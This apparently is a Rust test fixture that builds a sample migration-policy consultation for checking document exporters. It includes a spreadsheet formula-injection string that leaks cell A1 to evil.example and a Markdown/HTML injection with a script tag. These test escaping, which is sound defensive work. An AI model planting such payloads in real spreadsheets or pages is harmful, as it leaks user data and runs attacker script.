//! The fixed data set behind the golden files.
//!
//! Shaped like the concept note's consultation (WG1: objectives 1, 3, 23;
//! WG2: 7, 17, 23, so objective 23 is in both) plus an empty third group,
//! and seeded with everything an export must handle: key points, merges,
//! vote ties, formula-like text, Markdown injection, XML special characters,
//! non-Latin scripts, and sections that must be skipped.

use roundtable_export::{
    ConsultationInfo, ExportDoc, GroupExport, Item, MergedText, ObjectiveExport, QuestionExport,
    Scope,
};

/// The five review questions, keyed.
pub const QUESTIONS: [(&str, &str); 5] = [
    ("progress", "Progress to date"),
    (
        "challenges",
        "Challenges, opportunities, gaps and emerging issues",
    ),
    ("practices", "Good practices and lessons learnt"),
    (
        "resources",
        "Resource requirements and capacity-building needs",
    ),
    ("recommendations", "Recommendations"),
];

pub fn item(id: &str, text: &str, votes: u32, key_point: bool) -> Item {
    Item {
        id: id.into(),
        text: text.into(),
        votes,
        key_point,
        merged: vec![],
        note: None,
    }
}

fn merged(id: &str, text: &str) -> MergedText {
    MergedText {
        id: id.into(),
        text: text.into(),
    }
}

/// The five questions, with `items[i]` answering question `i`.
fn questions(mut items: [Vec<Item>; 5]) -> Vec<QuestionExport> {
    QUESTIONS
        .iter()
        .zip(items.iter_mut())
        .map(|((key, text), items)| QuestionExport {
            key: (*key).into(),
            text: (*text).into(),
            items: std::mem::take(items),
        })
        .collect()
}

fn objective(
    number: u32,
    title: &str,
    summary: Option<&str>,
    items: [Vec<Item>; 5],
) -> ObjectiveExport {
    ObjectiveExport {
        number,
        title: title.into(),
        summary: summary.map(Into::into),
        questions: questions(items),
    }
}

pub const OBJ1: &str =
    "Collect and utilize accurate and disaggregated data as a basis for evidence-based policies";
pub const OBJ3: &str = "Provide accurate and timely information at all stages of migration";
pub const OBJ7: &str = "Address and reduce vulnerabilities in migration";
pub const OBJ17: &str = "Eliminate all forms of discrimination and promote evidence-based public discourse to shape perceptions of migration";
pub const OBJ23: &str = "Strengthen international cooperation and global partnerships for safe, orderly and regular migration";

pub const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")"#;
pub const INJECTION: &str = "# Heading injection\n- fake list item\n\n1. fake numbered item\n> quote <script>alert(1)</script> [link](http://evil.example)";
pub const XML_SPECIALS: &str =
    r#"Cooperation on "return & reintegration" is < 10% funded > 'expected'"#;

/// The whole consultation, items deliberately out of export order.
pub fn doc() -> ExportDoc {
    let mut survivor = item(
        "c4a1e3f2-7b1d-4c2e-9a55-3f0d2b6e8a11",
        "Labour migration data is still not disaggregated by sex and age.",
        7,
        true,
    );
    survivor.merged = vec![
        merged(
            "f0e9d8c7-b6a5-4943-8271-605f4e3d2c1b",
            "No sex-disaggregated data on labour migrants.",
        ),
        merged(
            "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d",
            "Age and gender breakdowns are missing from labour statistics.",
        ),
    ];
    survivor.note = Some("Raised in both rounds of discussion.".into());

    let mut noted = item(
        "3e5c7a9b-1d2f-4a6b-8c0d-2e4f6a8b0c1d",
        "Bilateral labour agreements should include portable social protection.",
        2,
        false,
    );
    noted.note = Some("  ".into()); // blank note: not shown

    let mut wg2_merge = item(
        "9b8a7c6d-5e4f-4321-a0b9-c8d7e6f5a4b3",
        "Regional consultative processes should open their meetings to migrant organisations.",
        4,
        false,
    );
    wg2_merge.merged = vec![merged(
        "1c2d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f",
        "-note: Colombo Process and Bali Process meetings stay closed to civil society.",
    )];
    wg2_merge.note = Some("@x The group asked that this be the lead recommendation.".into());

    ExportDoc {
        consultation: ConsultationInfo {
            slug: "gcm-ap-4".into(),
            title: "Improving value-driven and evidence-based policymaking and public debate, and enhancing cooperation on migration".into(),
            date: "2021-02-03".into(),
            time_zone: "Asia/Bangkok".into(),
        },
        scope: Scope::Consultation,
        chatham_house: "Held under the Chatham House Rule: participants are free to use the information received, but neither the identity nor the affiliation of the speaker(s), nor that of any other participant, may be revealed.".into(),
        groups: vec![
            GroupExport {
                slug: "wg1".into(),
                name: "Working Group 1".into(),
                objectives: vec![
                    objective(
                        1,
                        OBJ1,
                        Some("Data gaps dominate.\nParticipants agreed that administrative data exist but are not shared.\n\n# Not a heading: the second paragraph starts with a hash."),
                        [
                            vec![
                                item("e2d4f6a8-0b1c-4d3e-8f5a-7b9c1d3e5f70", "Some countries now publish quarterly migration statistics.", 1, false),
                                survivor,
                                item("2b4d6f80-1a3c-4e5f-9b7d-0c2e4a6b8d9f", "Census rounds have started to include migration modules.", 3, false),
                            ],
                            vec![],
                            vec![],
                            vec![],
                            vec![
                                item("7d9f1b3d-5f7a-4c9e-8b2d-4f6a8c0e2a4c", HYPERLINK, 0, false),
                                item("5a7c9e1b-3d5f-4a8c-9e0b-2d4f6a8c0e1b", "+66 2 is the prefix migrants dial home; free calling cards would help.", 0, false),
                                item("4f6a8c0e-2b4d-4f8a-8c1e-3a5c7e9b1d3f", "\tTabbed: a line that starts with a tab.", 0, false),
                            ],
                        ],
                    ),
                    // No contributions and a blank summary: skipped entirely.
                    objective(3, OBJ3, Some(" \n "), Default::default()),
                    objective(
                        23,
                        OBJ23,
                        None,
                        [
                            vec![],
                            vec![
                                item("b1c3e5a7-9d2f-4b6c-8e0a-1c3e5a7b9d2f", INJECTION, 5, false),
                                item("a0b2c4d6-8e1f-4a3b-9c5d-7e9f1a3b5c7d", XML_SPECIALS, 5, false),
                            ],
                            vec![],
                            vec![noted],
                            vec![item("6e8a0c2e-4a6c-4e8a-8c2e-6a8c0e2a4c6e", "ความร่วมมือระดับภูมิภาค: 地域協力を強化する。", 1, true)],
                        ],
                    ),
                ],
            },
            GroupExport {
                slug: "wg2".into(),
                name: "Working Group 2".into(),
                objectives: vec![
                    objective(
                        7,
                        OBJ7,
                        None,
                        [
                            vec![],
                            vec![
                                item("d3c2b1a0-9f8e-4d7c-8b6a-5f4e3d2c1b0a", "Firewalls between services and immigration enforcement protect migrants who report abuse.", 2, false),
                                item("8f7e6d5c-4b3a-4291-8f0e-d9c8b7a6f5e4", "Shelters for migrants in vulnerable situations are underfunded.", 2, false),
                                item("1f2e3d4c-5b6a-4798-8a0b-c1d2e3f4a5b6", "Health care regardless of status, including during the pandemic.", 2, false),
                            ],
                            vec![],
                            vec![],
                            vec![],
                        ],
                    ),
                    // A summary but no contributions: shown, with no questions.
                    objective(17, OBJ17, Some("The group ran out of time; see the plenary report-back."), Default::default()),
                    objective(
                        23,
                        OBJ23,
                        Some("Cooperation must include migrants themselves."),
                        [vec![], vec![], vec![], vec![], vec![wg2_merge, item("2c3d4e5f-6a7b-4c8d-9e0f-1a2b3c4d5e6f", "Twin cities of origin and destination.", 0, false)]],
                    ),
                ],
            },
            // Nothing at all: skipped.
            GroupExport {
                slug: "wg3".into(),
                name: "Working Group 3".into(),
                objectives: vec![objective(23, OBJ23, None, Default::default())],
            },
        ],
    }
}

/// The same consultation with nothing recorded anywhere.
pub fn empty_doc() -> ExportDoc {
    let mut doc = doc();
    for group in &mut doc.groups {
        for objective in &mut group.objectives {
            objective.summary = None;
            for question in &mut objective.questions {
                question.items.clear();
            }
        }
    }
    doc
}

/// The whole consultation exported for WG2's objective 23 only: the
/// renderers must drop everything else.
pub fn scoped_doc() -> ExportDoc {
    let mut doc = doc();
    doc.scope = Scope::GroupObjective {
        slug: "wg2".into(),
        number: 23,
    };
    doc.consultation.date = "3 February 2021".into();
    doc
}
